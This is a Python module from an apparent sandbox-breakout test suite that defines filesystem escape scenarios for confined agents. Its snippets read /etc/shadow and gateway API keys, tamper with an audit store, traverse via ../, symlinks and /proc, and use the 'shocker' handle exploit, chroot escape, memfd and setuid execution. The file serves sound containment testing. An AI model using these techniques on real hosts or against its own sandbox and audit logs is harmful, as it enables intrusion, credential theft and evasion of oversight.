"""File-system escapes: reading and writing outside the workspace, and executing."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

from sentinel.breakout.scenario import UNPRIVILEGED_UID, WORKSPACE_FS, Family, Scenario
from sentinel.breakout.scenarios.judges import (
    device_node,
    file_appeared,
    hard_link_to,
    trace_left,
)

F = Family.FILESYSTEM
UID = UNPRIVILEGED_UID


TRACE = "ran-{run}"
"""What the programs the exec scenarios run (copies of ``touch``) leave in the workspace."""


def _setuid_copy(workspace: Path) -> None:
    target = workspace / "suid-touch"
    shutil.copy("/usr/bin/touch", target)
    os.chown(target, 0, 0)
    target.chmod(0o4755)


READ_DIGEST = """
def attack(A):
    expected = host_digest(A, {fact!r})
    data = read_bytes({path!r})
    if digest(data) == expected:
        escaped(f"read {path} ({{len(data)}} bytes, same digest as the host's)")
    blocked(f"read a different {path} ({{len(data)}} bytes): not the host's file")
"""

READ_TOKEN = """
def attack(A):
    data = read_bytes({path})
    if A["token"].encode() in data:
        escaped(f"read {{len(data)}} bytes holding the decoy secret")
    blocked("read a file without the decoy secret")
"""

EXEC_COPY = """
import shutil, subprocess
def attack(A):
    target = os.path.join({directory!r}, "own-binary-" + A["token"] + "-" + A["run"])
    shutil.copy("/usr/bin/touch", target)
    try:
        os.chmod(target, 0o755)
        subprocess.run([target, os.path.join(os.getcwd(), "ran-" + A["run"])], check=True)
    finally:
        os.unlink(target)  # the control runs on the host: leave nothing
    escaped(f"executed {{target}}, a binary the agent wrote")
"""

LOADER_RUN = """
import shutil, subprocess
def attack(A):
    target = os.path.join({directory!r}, "loaded-binary-" + A["token"] + "-" + A["run"])
    shutil.copy("/usr/bin/touch", target)
    trace = os.path.join(os.getcwd(), "ran-" + A["run"])
    try:
        os.chmod(target, 0o755)
        done_ = subprocess.run(["/lib64/ld-linux-x86-64.so.2", target, trace], capture_output=True)
    finally:
        os.unlink(target)  # the control runs on the host: leave nothing
    if done_.returncode == 0:
        escaped(f"ld.so ran {{target}}, a binary the agent wrote (no execve of it needed)")
    blocked(f"the loader could not map it: {{done_.stderr.decode().strip()[:160]}}")
"""

SCENARIOS = [
    Scenario("fs-read-shadow", F, "read the host's /etc/shadow",
             ("bwrap", "landlock", UID), READ_DIGEST.format(path="/etc/shadow", fact="shadow_sha256")),
    Scenario("fs-read-passwd", F, "read /etc/passwd, a world-readable host file outside the policy",
             ("bwrap", "landlock"), READ_DIGEST.format(path="/etc/passwd", fact="passwd_sha256")),
    Scenario("fs-list-host-home", F, "list the host's home directory /root", ("bwrap", "landlock", UID), """
def attack(A):
    names = os.listdir("/root")
    escaped(f"listed /root: {len(names)} entries")
"""),
    Scenario("fs-read-other-agent", F, "read another agent's workspace (its own uid, 0600 file)",
             ("bwrap", "landlock", UID), READ_TOKEN.format(path='A["other_notes"]')),
    Scenario("fs-read-gateway-secrets", F, "read the gateway's API keys (root-owned, 0600)",
             ("bwrap", "landlock", UID), READ_TOKEN.format(path='A["gateway_secret"]')),
    Scenario("fs-read-host-decoy", F, "read a world-readable host file outside the policy",
             ("bwrap", "landlock"), READ_TOKEN.format(path='A["host_secret"]')),
    Scenario("fs-write-outside", F, "create a file in a world-writable host directory",
             ("bwrap", "landlock"), """
def attack(A):
    with open(os.path.join(A["host_dir"], "planted-" + A["run"]), "w") as handle:
        handle.write("planted")
    escaped("created a file outside the workspace")
""", judge=file_appeared("host_dir", "planted-{run}")),
    Scenario("fs-write-usr", F, "create a file under /usr/local (read-only for agents)",
             ("bwrap", "landlock", UID), """
def attack(A):
    target = A["usr_target"] + "-" + A["run"]
    with open(target, "w") as handle:
        handle.write("planted")
    escaped(f"created {target}")
""", judge=file_appeared("usr_target")),
    Scenario("fs-tamper-audit-store", F, "open the audit store for writing", ("bwrap", "landlock", UID), """
def attack(A):
    fd = os.open(A["store_path"], os.O_WRONLY | os.O_APPEND)
    os.close(fd)
    escaped("opened the audit store for writing (nothing written)")
"""),
    Scenario("fs-dotdot", F, "climb out of the workspace with ../ and read /etc/passwd",
             ("bwrap", "landlock"), """
def attack(A):
    expected = host_digest(A, "passwd_sha256")
    path = os.getcwd() + "/.." * 12 + "/etc/passwd"
    data = read_bytes(path)
    if digest(data) == expected:
        escaped(f"read the host's /etc/passwd through {path}")
    blocked("reached a different /etc/passwd")
"""),
    Scenario("fs-symlink-read", F, "read /etc/passwd through a symlink planted in the workspace",
             ("bwrap", "landlock"), """
def attack(A):
    expected = host_digest(A, "passwd_sha256")
    os.symlink("/etc/passwd", "innocent.txt")
    data = read_bytes("innocent.txt")
    if digest(data) == expected:
        escaped("read the host's /etc/passwd through a workspace symlink")
    blocked("the symlink led to a different file")
"""),
    Scenario("fs-symlink-write", F, "write outside through a symlink planted in the workspace",
             ("bwrap", "landlock"), """
def attack(A):
    os.symlink(os.path.join(A["host_dir"], "via-link-" + A["run"]), "output.log")
    with open("output.log", "w") as handle:
        handle.write("planted")
    escaped("wrote through a symlink to a host directory")
""", judge=file_appeared("host_dir", "via-link-{run}")),
    Scenario("fs-hardlink", F, "hard-link a host file into the workspace and read it",
             ("bwrap", "landlock", UID), """
def attack(A):
    os.link(A["host_secret"], "linked.txt")
    if A["token"].encode() in read_bytes("linked.txt"):
        escaped("hard-linked a host file into the workspace and read it")
    blocked("the link holds other content")
""", judge=hard_link_to("host_secret", "linked.txt")),
    Scenario("fs-proc-self-root", F, "read /etc/passwd through /proc/self/root",
             ("bwrap", "landlock"), READ_DIGEST.format(path="/proc/self/root/etc/passwd", fact="passwd_sha256")),
    Scenario("fs-proc-pid-root", F, "read host files through another agent's /proc/<pid>/root",
             ("bwrap", "landlock"), """
def attack(A):
    expected = host_digest(A, "passwd_sha256")
    path = f"/proc/{A['decoy']['pid']}/root/etc/passwd"
    if digest(read_bytes(path)) == expected:
        escaped(f"read the host's /etc/passwd through {path}")
    blocked("reached a different /etc/passwd")
"""),
    Scenario("fs-open-by-handle", F,
             "open the file system's root by a forged handle (open_by_handle_at, 'shocker')",
             ("seccomp", UID), """
class Handle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                ("f_handle", ctypes.c_ubyte * 8)]
def attack(A):
    # ext4 keeps the root directory in inode 2, generation 0 (FILEID_INO32_GEN = 1); /usr
    # is a bind of the host's root file system, so its root is the host's /
    handle = Handle(8, 1, (ctypes.c_ubyte * 8)(2, 0, 0, 0, 0, 0, 0, 0))
    mount_fd = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
    fd = syscall(304, mount_fd, ctypes.byref(handle), os.O_RDONLY | os.O_DIRECTORY)
    names = sorted(os.listdir(fd))
    if "etc" in names:
        escaped(f"opened the host file system's root by handle: {names[:6]}")
    blocked(f"opened a directory without /etc: {names[:6]}")
"""),
    Scenario("fs-block-device", F, "read the host's disk through its block device",
             ("bwrap", UID), """
def attack(A):
    data = read_bytes(A["block_device"], 512)
    escaped(f"read {len(data)} bytes of {A['block_device']}")
""", precondition=lambda arena: arena.facts["block_device_refused"]),
    Scenario("fs-mknod", F, "create a device node for /dev/mem in the workspace",
             ("bwrap", "landlock", UID), """
import stat
def attack(A):
    os.mknod("mem", stat.S_IFCHR | 0o600, os.makedev(1, 1))
    escaped("created a character device node (1, 1) = /dev/mem")
""", judge=device_node("mem")),
    Scenario("fs-exec-workspace", F, "execute a binary the agent wrote into its workspace",
             ("landlock", WORKSPACE_FS), EXEC_COPY.format(directory="."), judge=trace_left(TRACE)),
    Scenario("fs-exec-tmp", F, "execute a binary the agent wrote into /tmp",
             ("landlock", WORKSPACE_FS), EXEC_COPY.format(directory="/tmp"), judge=trace_left(TRACE)),
    *(
        Scenario(f"fs-exec-loader-{name}", F,
                 f"run a binary the agent wrote into {label} through the dynamic loader (ld.so)",
                 (WORKSPACE_FS,), LOADER_RUN.format(directory=where), judge=trace_left(TRACE))
        for name, where, label in (
            ("workspace", ".", "its workspace"), ("tmp", "/tmp", "/tmp"), ("shm", "/dev/shm", "/dev/shm"),
        )
    ),
    Scenario("fs-exec-memfd", F, "execute a binary from an anonymous memory file (memfd)",
             ("seccomp",), """
import subprocess
def attack(A):
    fd = os.memfd_create("payload", 0)
    os.write(fd, read_bytes("/usr/bin/touch", 1 << 24))
    trace = os.path.join(os.getcwd(), "ran-" + A["run"])
    subprocess.run([f"/proc/self/fd/{fd}", trace], pass_fds=(fd,), check=True)
    escaped("executed a binary from a memfd")
""", judge=trace_left(TRACE)),
    Scenario("fs-setuid-binary", F, "gain root through a setuid-root binary in the workspace",
             ("landlock", "bwrap", "seccomp", WORKSPACE_FS), """
import subprocess
def attack(A):
    subprocess.run(["./suid-touch", "ran-" + A["run"]], capture_output=True, check=True)
    owner = os.stat("ran-" + A["run"]).st_uid
    if owner == 0:
        escaped("a setuid-root binary ran with effective uid 0 (its file is root's)")
    blocked(f"the setuid binary ran without privilege (its file belongs to uid {owner})")
""", control="agent-uid", setup=_setuid_copy, judge=trace_left(TRACE, root_owned_escapes=True)),
    Scenario("fs-chroot-escape", F, "escape a chroot with a saved directory fd and ../ (classic)",
             ("seccomp", UID), """
def attack(A):
    os.makedirs("jail", exist_ok=True)
    outside = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    if digest(read_bytes("/etc/passwd")) == host_digest(A, "passwd_sha256"):
        escaped("left the chroot and read the host's /etc/passwd")
    blocked("the chroot held")
"""),
]  # fmt: skip
